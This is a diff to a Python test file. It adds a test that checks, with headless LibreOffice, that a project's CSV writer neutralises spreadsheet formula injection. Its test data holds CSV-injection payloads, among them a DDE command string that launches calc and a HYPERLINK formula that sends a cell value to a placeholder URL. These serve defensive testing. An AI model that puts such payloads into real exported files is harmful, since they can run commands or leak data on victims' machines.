@@ -2,8 +2,11 @@
 
 import fcntl
 import os
+import shutil
 import subprocess
 import threading
+
+import pytest
 
 from acgate import runs
 
@@ -109,6 +112,26 @@ def test_a_csv_a_spreadsheet_may_open_holds_no_formula_and_reads_back_as_written
     assert list(back.columns) == list(frame.columns)
     assert back.entity.tolist() == ids and back["=SUM(A1)"].tolist() == frame["=SUM(A1)"].tolist()
     assert back.kstar.tolist() == frame.kstar.tolist()  # numbers stay numbers, negative ones too
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice (Debian: libreoffice-calc-nogui)")
+def test_a_spreadsheet_opens_the_projects_csv_ids_as_text_not_formulas(tmp_path):
+    """A real spreadsheet reader (LibreOffice, headless, converting to xlsx, read back by openpyxl): the ids the
+    project writes stay text; the same ids written by plain pandas become a formula (so the check can see one)."""
+    import openpyxl
+    import pandas as pd
+
+    ids = ['=HYPERLINK("http://x?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "plain"]
+    frame = pd.DataFrame({"entity": ids, "kstar": [1.5, 2.0, 3.0, 4.0, 5.0]})
+    runs.write_csv(tmp_path / "guarded.csv", frame, index=False)
+    frame.to_csv(tmp_path / "plain.csv", index=False)
+    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "xlsx",
+                    "--outdir", str(tmp_path), str(tmp_path / "guarded.csv"), str(tmp_path / "plain.csv")],
+                   check=True, capture_output=True, timeout=300)
+    kinds = {name: [cell.data_type for cell in openpyxl.load_workbook(tmp_path / f"{name}.xlsx").active["A"][1:]]
+             for name in ("guarded", "plain")}
+    assert kinds["guarded"] == ["s"] * len(ids), kinds  # text
+    assert "f" in kinds["plain"], kinds  # a formula
 
 
 def _number(cell: str) -> bool:
